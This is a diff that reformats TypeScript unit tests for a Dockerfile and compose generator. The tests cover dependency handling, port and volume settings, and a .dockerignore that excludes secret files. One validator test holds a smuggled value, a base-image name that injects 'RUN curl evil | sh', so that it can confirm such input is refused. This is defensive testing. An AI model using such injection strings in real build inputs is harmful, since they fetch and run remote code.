@@ -1,12 +1,26 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { specFromAnalysis, SpecError, validateSpec, systemPackagesFor, isJupyterImage, isCudaImage, generateCompose, generateDockerfile, generateDockerignore } from '../../src/core/generate';
+import {
+  specFromAnalysis,
+  SpecError,
+  validateSpec,
+  systemPackagesFor,
+  isJupyterImage,
+  isCudaImage,
+  generateCompose,
+  generateDockerfile,
+  generateDockerignore,
+} from '../../src/core/generate';
 import { parse } from 'yaml';
 import { ProjectSpec } from '../../src/core/project';
 import { analysis, req } from './analysis-samples';
 
 test('specFromAnalysis: runtime requirements only, pins kept, mode/entry/python from the analysis', () => {
-  const spec = specFromAnalysis(analysis({ requirements: [req('numpy', '1.26.4'), req('pytest', '8.0.0', 'dev'), req('rich', undefined, 'optional')] }));
+  const spec = specFromAnalysis(
+    analysis({
+      requirements: [req('numpy', '1.26.4'), req('pytest', '8.0.0', 'dev'), req('rich', undefined, 'optional')],
+    }),
+  );
   assert.deepEqual(spec.requirements, [{ name: 'numpy', version: '1.26.4' }]);
   assert.equal(spec.mode, 'script');
   assert.equal(spec.entry, 'train.py');
@@ -14,7 +28,7 @@ test('specFromAnalysis: runtime requirements only, pins kept, mode/entry/python 
   assert.equal(spec.baseImage, undefined);
 });
 
-test('the Dockerfile\'s build comment tags the image as builds do (the folder name), not my-project (issue 12)', () => {
+test("the Dockerfile's build comment tags the image as builds do (the folder name), not my-project (issue 12)", () => {
   const spec = specFromAnalysis(analysis({ root: '/work/Churn Script' }));
   assert.equal(spec.tag, 'churn-script:latest');
   assert.match(generateDockerfile(spec), /-t churn-script:latest \./);
@@ -23,30 +37,60 @@ test('the Dockerfile\'s build comment tags the image as builds do (the folder na
 
 test('specFromAnalysis: options override; jupyter adds jupyterlab unless the base image is a Jupyter image', () => {
   const a = analysis({ mode: 'jupyter', entry: undefined, requirements: [req('pandas', '2.2.2')] });
-  assert.deepEqual(specFromAnalysis(a).requirements.map((r) => r.name), ['jupyterlab', 'pandas']);
-  assert.deepEqual(specFromAnalysis(a, { baseImage: 'local/jupyter:3.11' }).requirements.map((r) => r.name), ['pandas']);
-  assert.deepEqual(specFromAnalysis(analysis({ mode: 'jupyter', requirements: [req('jupyter')] })).requirements.map((r) => r.name), ['jupyter']);
+  assert.deepEqual(
+    specFromAnalysis(a).requirements.map((r) => r.name),
+    ['jupyterlab', 'pandas'],
+  );
+  assert.deepEqual(
+    specFromAnalysis(a, { baseImage: 'local/jupyter:3.11' }).requirements.map((r) => r.name),
+    ['pandas'],
+  );
+  assert.deepEqual(
+    specFromAnalysis(analysis({ mode: 'jupyter', requirements: [req('jupyter')] })).requirements.map((r) => r.name),
+    ['jupyter'],
+  );
   const s = specFromAnalysis(a, { pythonVersion: '3.12', gpu: true, mode: 'script', entry: 'x.py' });
   assert.deepEqual([s.pythonVersion, s.gpu, s.mode, s.entry], ['3.12', true, 'script', 'x.py']);
 });
 
 test('specFromAnalysis: fastapi gets uvicorn; system packages come from the table; .env is noticed', () => {
-  const s = specFromAnalysis(analysis({ mode: 'app', framework: 'fastapi', entry: 'main.py', existing: ['.env'], requirements: [req('fastapi', '0.111.0'), req('opencv-python', '4.10.0.84')] }));
-  assert.deepEqual(s.requirements.map((r) => r.name), ['fastapi', 'opencv-python', 'uvicorn']);
+  const s = specFromAnalysis(
+    analysis({
+      mode: 'app',
+      framework: 'fastapi',
+      entry: 'main.py',
+      existing: ['.env'],
+      requirements: [req('fastapi', '0.111.0'), req('opencv-python', '4.10.0.84')],
+    }),
+  );
+  assert.deepEqual(
+    s.requirements.map((r) => r.name),
+    ['fastapi', 'opencv-python', 'uvicorn'],
+  );
   assert.deepEqual(s.systemPackages, ['libgl1', 'libglib2.0-0']);
   assert.equal(s.hasEnvFile, true);
 });
 
 test('specFromAnalysis: impossible choices are SpecErrors with a message for the user', () => {
-  assert.throws(() => specFromAnalysis(analysis(), { mode: 'app' }), (e) => e instanceof SpecError && /no app framework/.test(e.message));
-  assert.throws(() => specFromAnalysis(analysis({ entry: undefined })), (e) => e instanceof SpecError && /--entry/.test(e.message));
+  assert.throws(
+    () => specFromAnalysis(analysis(), { mode: 'app' }),
+    (e) => e instanceof SpecError && /no app framework/.test(e.message),
+  );
+  assert.throws(
+    () => specFromAnalysis(analysis({ entry: undefined })),
+    (e) => e instanceof SpecError && /--entry/.test(e.message),
+  );
   assert.throws(() => specFromAnalysis(analysis(), { pythonVersion: '3' }), SpecError);
 });
 
 test('system package table: PEP 503 lookup, unknown names need nothing, every entry has a reason', () => {
-  assert.deepEqual(systemPackagesFor(['OpenCV_Python', 'numpy']).map((n) => n.packages), [['libgl1', 'libglib2.0-0']]);
+  assert.deepEqual(
+    systemPackagesFor(['OpenCV_Python', 'numpy']).map((n) => n.packages),
+    [['libgl1', 'libglib2.0-0']],
+  );
   assert.deepEqual(systemPackagesFor(['pandas']), []);
-  for (const n of systemPackagesFor(['opencv-python', 'lightgbm', 'pyodbc', 'psycopg2', 'pytesseract'])) assert.ok(n.why.length > 10);
+  for (const n of systemPackagesFor(['opencv-python', 'lightgbm', 'pyodbc', 'psycopg2', 'pytesseract']))
+    assert.ok(n.why.length > 10);
 });
 
 test('image detection by name', () => {
@@ -70,7 +114,9 @@ test('compose: valid YAML, no version key, 127.0.0.1 ports, bind mount, init, GP
   assert.deepEqual(svc.volumes, ['.:/app']);
   assert.equal(svc.init, true);
   assert.deepEqual(svc.env_file, ['.env']);
-  assert.deepEqual(svc.deploy.resources.reservations.devices, [{ driver: 'nvidia', count: 'all', capabilities: ['gpu'] }]);
+  assert.deepEqual(svc.deploy.resources.reservations.devices, [
+    { driver: 'nvidia', count: 'all', capabilities: ['gpu'] },
+  ]);
   const script = parse(generateCompose({ ...base, mode: 'script', entry: 'a.py' })).services.app;
   assert.equal(script.ports, undefined);
   assert.equal(script.env_file, undefined);
@@ -84,21 +130,48 @@ test('dockerfile: UID build argument defaults to 1000, existing users are reused
   assert.match(d, /^USER \$\{UID\}$/m);
   const lines = d.split('\n');
   const at = (re: RegExp) => lines.findIndex((l) => re.test(l));
-  assert.ok(at(/^COPY requirements\.txt/) < at(/^RUN pip install/) && at(/^RUN pip install/) < at(/^COPY --chown=\$\{UID\} \. \./), 'dependency layer first');
-  assert.match(generateDockerfile({ ...base, mode: 'script', entry: 'a.py', baseImage: 'python:3.12-bookworm' }), /^FROM python:3\.12-bookworm$/m);
+  assert.ok(
+    at(/^COPY requirements\.txt/) < at(/^RUN pip install/) &&
+      at(/^RUN pip install/) < at(/^COPY --chown=\$\{UID\} \. \./),
+    'dependency layer first',
+  );
+  assert.match(
+    generateDockerfile({ ...base, mode: 'script', entry: 'a.py', baseImage: 'python:3.12-bookworm' }),
+    /^FROM python:3\.12-bookworm$/m,
+  );
 });
 
 test('dockerignore: secrets, caches, VCS, venvs, chosen data folders; .env never in the context', () => {
   const d = generateDockerignore({ ...base, mode: 'script', ignoreFolders: ['data/', './raw\\images'] }).split('\n');
-  for (const p of ['.git', '.venv', '**/__pycache__', '**/.ipynb_checkpoints', '**/.env', '**/*.pem', '**/id_rsa*', '**/*.key', '**/credentials*.json', 'data', 'raw/images']) {
+  for (const p of [
+    '.git',
+    '.venv',
+    '**/__pycache__',
+    '**/.ipynb_checkpoints',
+    '**/.env',
+    '**/*.pem',
+    '**/id_rsa*',
+    '**/*.key',
+    '**/credentials*.json',
+    'data',
+    'raw/images',
+  ]) {
     assert.ok(d.includes(p), p);
   }
 });
 
 test('validateSpec: values that would inject instructions or commands are refused, naming each problem', () => {
   const ok = { ...base, mode: 'script' as const, entry: 'train.py' };
-  assert.doesNotThrow(() => validateSpec({ ...ok, baseImage: 'registry.example:5000/team/py:3.11-slim@sha256:' + 'a'.repeat(64) }));
-  assert.doesNotThrow(() => validateSpec({ ...ok, baseImage: 'nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04', systemPackages: ['libglib2.0-0', 'g++'] }));
+  assert.doesNotThrow(() =>
+    validateSpec({ ...ok, baseImage: 'registry.example:5000/team/py:3.11-slim@sha256:' + 'a'.repeat(64) }),
+  );
+  assert.doesNotThrow(() =>
+    validateSpec({
+      ...ok,
+      baseImage: 'nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04',
+      systemPackages: ['libglib2.0-0', 'g++'],
+    }),
+  );
   const bad: [Partial<ProjectSpec>, RegExp][] = [
     [{ baseImage: 'python:3.11\nRUN curl evil | sh' }, /not an image name/],
     [{ baseImage: 'Python:3.11' }, /not an image name/],
@@ -114,18 +187,33 @@ test('validateSpec: values that would inject instructions or commands are refuse
     [{ pythonVersion: '3.11 ' }, /must look like 3\.11/],
   ];
   for (const [over, re] of bad) {
-    assert.throws(() => validateSpec({ ...ok, ...over }), (e) => e instanceof SpecError && re.test(e.message), JSON.stringify(over));
+    assert.throws(
+      () => validateSpec({ ...ok, ...over }),
+      (e) => e instanceof SpecError && re.test(e.message),
+      JSON.stringify(over),
+    );
     assert.throws(() => generateDockerfile({ ...ok, ...over }), SpecError, 'the generators validate too');
   }
 });
 
 test('a second Containerize starts from the current Dockerfile: FROM, mode and entry, and names what changes (issue 12)', async () => {
   const { choicesFromDockerfile, describeChanges } = await import('../../src/core/generate/existing');
-  const mine = 'FROM python:3.11-slim AS build\nRUN pip wheel .\nFROM local/python:3.11-scipy\nWORKDIR /app\nCOPY . .\nCMD ["python", "train.py", "--epochs", "3"]\n';
-  assert.deepEqual(choicesFromDockerfile(mine), { baseImage: 'local/python:3.11-scipy', mode: 'script', entry: 'train.py' });
-  assert.deepEqual(choicesFromDockerfile('FROM local/jupyter:3.11\nCMD ["jupyter", "lab", "--ip=0.0.0.0"]\n'), { baseImage: 'local/jupyter:3.11', mode: 'jupyter' });
+  const mine =
+    'FROM python:3.11-slim AS build\nRUN pip wheel .\nFROM local/python:3.11-scipy\nWORKDIR /app\nCOPY . .\nCMD ["python", "train.py", "--epochs", "3"]\n';
+  assert.deepEqual(choicesFromDockerfile(mine), {
+    baseImage: 'local/python:3.11-scipy',
+    mode: 'script',
+    entry: 'train.py',
+  });
+  assert.deepEqual(choicesFromDockerfile('FROM local/jupyter:3.11\nCMD ["jupyter", "lab", "--ip=0.0.0.0"]\n'), {
+    baseImage: 'local/jupyter:3.11',
+    mode: 'jupyter',
+  });
   assert.deepEqual(choicesFromDockerfile('ARG B=python:3.12\nFROM $B\nCMD streamlit run app.py\n'), { mode: 'app' });
   const spec = specFromAnalysis(analysis({ root: '/p/x' }), { baseImage: 'local/python:3.11-scipy' });
   assert.deepEqual(describeChanges(choicesFromDockerfile(mine), spec), []);
-  assert.deepEqual(describeChanges({ baseImage: 'local/jupyter:3.11', mode: 'jupyter' }, spec), ['base image: local/jupyter:3.11 → local/python:3.11-scipy', 'mode: jupyter → script']);
+  assert.deepEqual(describeChanges({ baseImage: 'local/jupyter:3.11', mode: 'jupyter' }, spec), [
+    'base image: local/jupyter:3.11 → local/python:3.11-scipy',
+    'mode: jupyter → script',
+  ]);
 });
